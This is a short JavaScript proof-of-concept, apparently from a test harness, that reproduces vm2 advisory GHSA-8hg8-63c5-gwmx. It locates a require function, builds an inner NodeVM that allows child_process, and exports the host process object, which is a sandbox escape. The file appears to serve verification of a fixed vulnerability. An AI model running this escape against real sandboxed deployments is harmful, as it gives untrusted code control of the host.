// Source: vm2 advisory GHSA-8hg8-63c5-gwmx (test/ghsa/GHSA-8hg8-63c5-gwmx/ in vm2's repository; fixed in vm2 3.11.1): `{ nesting: true, require: false }` still exposed `require("vm2")`, and an inner NodeVM chose its own builtins.
// The chain below follows the advisory's repro.js, or vm2's lib/ comment for it where the repro was not read.
// NodeVM only: the advisory needs NodeVM's `require`. A scenario runs in a plain vm2 VM with no
// `require`, `module` or `process`, so the PoC first looks for every way to a `require` the public
// PoCs use (`__wr.eachRequire`), then runs the advisory's chain with whatever it found.
// Tried: require('vm2') and an inner NodeVM allowing child_process.
const out = {};
await __wr.eachRequire(out, async (req, label) => {
  try {
    const { NodeVM } = req('vm2'); const inner = new NodeVM({ require: { builtin: ['child_process'] } }); __wr.use(inner.run('module.exports = process', 'inner.js'), 'process from an inner NodeVM');
  } catch (e) { out[label + 'Chain'] = String(e && e.message).slice(0, 60); }
});
return out;
